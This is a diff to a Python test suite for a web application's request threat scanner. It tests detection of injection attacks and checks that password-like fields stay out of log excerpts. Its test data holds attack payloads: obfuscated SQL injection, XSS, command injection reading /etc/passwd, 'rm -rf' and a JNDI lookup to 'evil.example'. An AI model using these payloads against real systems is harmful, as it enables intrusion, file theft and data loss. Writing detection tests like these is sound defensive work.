@@ -5,6 +5,7 @@ from __future__ import annotations
 import html
 import json
 import threading
+from collections.abc import Callable
 from urllib.parse import quote, quote_plus
 
 import gevent
@@ -13,7 +14,14 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from church.observability.threats import scan_text
-from church.observability.threats.scan_text import is_sensitive, scan, scan_request, strings_of
+from church.observability.threats.scan_text import (
+    is_refused,
+    is_sensitive,
+    mentions_secret,
+    scan,
+    scan_request,
+    strings_of,
+)
 
 BROWSER = (
     ("Host", "church.example"),
@@ -172,6 +180,8 @@ def test_attack_in_html_entities_is_found(payload: str) -> None:
         ("9 /*!50000UNION*/ /*!50000SELECT*/ 1,2", "sql_injection"),
         ("; c'a't /e't'c/passwd", "command_injection"),
         (";who\\ami", "command_injection"),
+        (r"\074script\076alert(1)\074/script\076", "xss"),
+        ("1%25252527%252525%32%30UNION%25252520SELECT%25252520NULL,NULL--", "sql_injection"),
         ("PHNjcmlwdD5hbGVydCg3KTwvc2NyaXB0Pg==", "xss"),
     ],
 )
@@ -238,24 +248,28 @@ def test_findings_stay_within_the_declared_sets() -> None:
 @pytest.mark.parametrize(
     "name",
     ["password", "new_password", "Passwd", "csrf_token", "X-CSRF-Token", "Authorization", "Proxy-Authorization",
-     "cookie", "Set-Cookie", "Stripe-Signature", "card[number]", "cvc", "client_secret", "api_key",
-     "refreshToken", "user.pwd", "current"],
+     "Set-Cookie", "Stripe-Signature", "card[number]", "cvc", "client_secret", "api_key",
+     "refreshToken", "user.pwd", "current", "pw", "PW", "user_pw", "new-pw", "pw2", "userPw", "loginPin", "psw", "pswd",
+     "passcode", "accessKey", "pinCode", "p%61ssword", "p%2561ssword", "p&#97;ssword", "p&#x61;ssword",
+     "p\\u0061ssword", "p\\x61ssword", "p\\141ssword", "\uff50\uff41\uff53\uff53\uff57\uff4f\uff52\uff44"],
 )  # fmt: skip
 def test_sensitive_field_is_neither_scanned_nor_excerpted(name: str) -> None:
     secret = "hunter2' OR 1=1 --"
     assert is_sensitive(name)
-    assert scan_request("/", f"{name}={quote(secret)}", [(name, secret)], [(name, secret)]) == ()
+    assert scan_request("/", f"{quote(name)}={quote(secret)}", [(name, secret)], [(name, secret)]) == ()
     assert list(strings_of({name: secret, "nested": [{name: {"deep": [secret]}}]})) == [name, "nested", name]
 
 
-@pytest.mark.parametrize("name", ["name", "message", "q", "compass", "title", "spinach", "User-Agent", "Referer"])
+@pytest.mark.parametrize(
+    "name", ["name", "message", "q", "compass", "title", "spinach", "User-Agent", "Referer", "spwan", "opinion"]
+)
 def test_ordinary_name_is_not_sensitive(name: str) -> None:
     assert not is_sensitive(name)
 
 
 def test_headers_that_the_server_reads_itself_are_not_scanned() -> None:
     attack = "<script>alert(1)</script>"
-    names = ["Accept", "Accept-Language", "Cookie", "Authorization", "If-None-Match", "traceparent", "Content-Type"]
+    names = ["Accept", "Accept-Language", "Authorization", "If-None-Match", "traceparent", "Content-Type"]
     assert scan_request("/", "", [(name, attack) for name in names]) == ()
 
 
@@ -272,6 +286,167 @@ def test_excerpt_is_short_and_cannot_break_a_log_line() -> None:
     for finding in scan(text, "form"):
         assert len(finding.excerpt) <= scan_text.EXCERPT_LIMIT
         assert finding.excerpt.isprintable()
+
+
+SECRET = "hunter2 and its friends"  # a phrase: it does not end at a blank
+XSS = "<script>alert(1)</script>"
+
+
+@pytest.mark.parametrize(
+    "key",
+    ["password", "pw", "PW", "pwd", "userPw", "passcode", "api_key", "token", "p\\u0061ssword", "p&#97;ssword",
+     "p%61ssword", "p\\141ssword", "pass/**/word", "p\"assword", "p\0assword", "card number", "Session-ID"],
+)  # fmt: skip
+@pytest.mark.parametrize("between", ["=", ": ", '": "', "'=>'", " ", ">", "/", '\\": \\"', "=" + "x" * 400])
+def test_secret_beside_its_name_is_in_no_excerpt(key: str, between: str) -> None:
+    text = f"note {key}{between}{SECRET} {XSS}"
+    findings = (
+        *scan(text, "websocket"),
+        *scan_request(f"/a/{quote(text)}", f"q={quote(text)}&{quote(text)}", [("X-Note", text)], [("n", text)], [text]),
+        *scan_request("/", "", [("Referer", f"https://church.example/a?{quote(key)}={quote(SECRET)}&q={quote(XSS)}")]),
+    )
+    assert {finding.source for finding in findings} >= {"websocket", "path", "query", "header", "form", "json"}
+    assert [
+        finding.excerpt for finding in findings if "hunter" in finding.excerpt or "friends" in finding.excerpt
+    ] == []
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        ["password", SECRET + XSS],
+        [["pw", SECRET + XSS]],
+        {"name": "password", "value": SECRET + XSS},
+        {"field": {"label": "Your password"}, "typed": [SECRET + XSS]},
+        ["p\\u0061ssword", SECRET + XSS],
+        {"nested": json.dumps({"password": SECRET, "note": XSS})},
+        {"nested": json.dumps(json.dumps({"a": [1, {"pw": SECRET}], "note": XSS}))},
+        {"password": {"deep": SECRET}, "note": "pw: " + SECRET + XSS},
+    ],
+)
+def test_secret_beside_its_name_in_json_is_in_no_excerpt(value: object) -> None:
+    findings = scan_request("/", "", (), (), strings_of(value))
+    assert "xss" in kinds(findings)
+    assert [finding.excerpt for finding in findings if "hunter" in finding.excerpt] == []
+
+
+def test_value_of_a_sensitive_json_key_does_not_hide_the_other_excerpts() -> None:
+    (finding,) = scan_request("/", "", (), (), strings_of({"email": XSS, "password": "hunter2"}))
+    assert XSS in finding.excerpt
+
+
+def test_field_whose_value_names_a_secret_hides_the_excerpts_of_its_form() -> None:
+    findings = scan_request("/", "", (), [("name", "password"), ("value", SECRET + XSS)])
+    assert {finding.excerpt for finding in findings} == {scan_text.WITHHELD}
+
+
+def test_excerpt_ends_at_the_word_for_a_secret() -> None:
+    (finding,) = scan("9 UNION SELECT login, password, card FROM members", "form")
+    assert finding.excerpt == "9 UNION SELECT login, passw***"
+
+
+def test_password_in_an_address_is_in_no_excerpt() -> None:
+    findings = scan_request("/", "", [("Referer", f"https://ann:hunter2@localhost/{XSS}")])
+    assert findings
+    assert "hunter2" not in "".join(finding.excerpt for finding in findings)
+
+
+def test_cookies_of_others_are_scanned_and_never_quoted() -> None:
+    attack = "theme=1' UNION SELECT NULL,NULL--; lang=hunter2"
+    (finding,) = scan_request("/", "", [("Cookie", attack)])
+    assert (finding.activity_type, finding.source, finding.excerpt) == ("sql_injection", "header", scan_text.WITHHELD)
+    assert is_refused(finding)
+
+
+@pytest.mark.parametrize("name", ["church", "__Host-church", "session", "PHPSESSID_token"])
+def test_cookies_that_hold_a_secret_are_not_scanned(name: str) -> None:
+    assert scan_request("/", "", [("Cookie", f"{name}=1' UNION SELECT NULL,NULL--")]) == ()
+
+
+def test_words_and_quotes_in_a_cookie_are_no_finding() -> None:
+    assert scan_request("/", "", [("Cookie", "seen=it's 'a' or 'b' = fine; path=/etc/nginx; x={\"a\": \"b\"}")]) == ()
+
+
+WORDS_AND_QUOTES = [
+    'She said "select a seat from the left row" and I did',
+    "drop by; select one; update me",
+    "let's order by 6 or 7, and 1 = 1 is true",
+    "it's either 'a' or 'b' = fine",
+    "/* nice */ comment",
+    "onclick= handlers are bad style",
+    "http://localhost:8000/ works here",
+    "the trade union select committee, which met on Monday, agreed",
+    '"A" and "B" > "C"',
+    "(see above) and x = 3;",
+    'he said "or else" -- and left',
+    "Please drop table reservations; we are full",
+    "I need sleep (8 hours)",
+    'confirm ("yes") please',
+    "JavaScript: the good parts",
+    "fish | chips; cut; paste; sort",
+    "cats | dogs & R&B; who's next",
+    "$5/month, or {ada} & 'bob'",
+    "boys' and girls' choir #1",
+    "the file report.php, see ../notes",
+    "Dear all,\r\nTo: the hall\r\nHost: Ada",
+    "`code`",
+    "/etc/nginx",
+    "curl -sI",
+    "((((",
+    "****",
+    "sql union select tutorial",
+]
+
+
+@pytest.mark.parametrize("text", WORDS_AND_QUOTES)
+def test_words_and_quotes_are_never_refused(text: str) -> None:
+    findings = scan_request("/pages/", f"q={quote_plus(text)}", BROWSER, [("message", text)], [text])
+    findings += scan(text, "websocket")
+    assert [finding for finding in findings if is_refused(finding)] == []
+
+
+# What a word alone shows, or a path that people talk about too: these are recorded, and pass.
+RECORDED_ONLY = {"`uname -a`"}
+
+
+@pytest.mark.parametrize(("kind", "payload"), ROWS)
+def test_attack_in_a_field_is_refused(kind: str, payload: str) -> None:
+    refused = [finding.activity_type for finding in scan_request("/", f"q={quote(payload)}", ()) if is_refused(finding)]
+    assert bool(refused) is (payload not in RECORDED_ONLY)
+
+
+@pytest.mark.parametrize("text", ["<script>alert(1)</script>", "x' OR 1=1 --", "${jndi:ldap://evil.example/a}"])
+def test_proof_in_a_message_between_members_is_refused(text: str) -> None:
+    assert any(is_refused(finding, confided=True) for finding in scan(text, "websocket"))
+
+
+@pytest.mark.parametrize("text", ["select * from users", "{{7*7}}", "<iframe>", "$(date)", "rm -rf /tmp; ls -la"])
+def test_code_in_a_message_between_members_is_not_refused(text: str) -> None:
+    assert not any(is_refused(finding, confided=True) for finding in scan(text, "websocket"))
+
+
+def test_referer_is_recorded_and_never_refused() -> None:
+    findings = scan_request("/", "", [("Referer", f"https://search.example/?q={quote(XSS)}")])
+    assert kinds(findings) == {"xss"}
+    assert not any(map(is_refused, findings))
+
+
+def test_attack_beside_the_same_in_a_referer_is_refused() -> None:
+    headers = [("Referer", f"https://search.example/?q={XSS}"), ("User-Agent", XSS)]
+    for order in (headers, headers[::-1]):
+        assert any(map(is_refused, scan_request("/", "", order)))
+
+
+def test_attack_across_the_border_of_two_windows_is_found() -> None:
+    for padding in range(scan_text._WINDOW - 30, scan_text._WINDOW + 5, 3):
+        assert "xss" in kinds(scan("x" * padding + XSS + "y" * 40_000, "form"))
+
+
+def test_other_requests_run_between_two_windows(monkeypatch: pytest.MonkeyPatch) -> None:
+    pauses: list[float] = []
+    monkeypatch.setattr(scan_text.time, "sleep", pauses.append)
+    scan("x" * 64 * 1024, "form")
+    assert pauses == [0] * 4
 
 
 def test_deep_json_is_walked_without_recursion() -> None:
@@ -347,3 +522,30 @@ def test_scan_never_raises_and_excerpts_are_safe(first: str, second: str, third:
 @given(ANY_JSON)
 def test_strings_of_any_json_is_bounded(value: object) -> None:
     assert len(list(strings_of(value, limit=5))) <= 5
+
+
+KEYS = st.sampled_from(["password", "pw", "passcode", "api_key", "secret", "token", "userPwd", "pin"])
+WRITTEN: list[Callable[[str], str]] = [
+    lambda key: key,
+    str.upper,
+    lambda key: f"\\u{ord(key[0]):04x}{key[1:]}",
+    lambda key: f"&#{ord(key[0])};{key[1:]}",
+    lambda key: f"&#x{ord(key[0]):x};{key[1:]}",
+    lambda key: f"%{ord(key[0]):02x}{key[1:]}",
+    lambda key: f"\\{ord(key[0]):03o}{key[1:]}",
+    lambda key: f"user[{key}]",
+    lambda key: f"<{key}>",
+]
+WORDS = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x1e\x1f"), max_size=300)
+PUNCTUATION = st.text(" =:;,.\"'{}[]()<>/\\|-", min_size=1, max_size=6)
+
+
+@settings(max_examples=300, deadline=None)
+@given(KEYS, st.sampled_from(WRITTEN), PUNCTUATION, st.sampled_from([payload for _, payload in ROWS]), WORDS)
+def test_secret_is_in_no_excerpt_whatever_is_around_it(
+    key: str, write: Callable[[str], str], between: str, attack: str, before: str
+) -> None:
+    text = f"{before} {write(key)}{between}Zq7marker Zq8marker{between}{attack}"
+    findings = scan_request(quote(f"/{text}"), quote(text), [("X-Note", text)], [("note", text)], [text])
+    assert [finding.excerpt for finding in findings if "marker" in finding.excerpt] == []
+    assert mentions_secret(text)
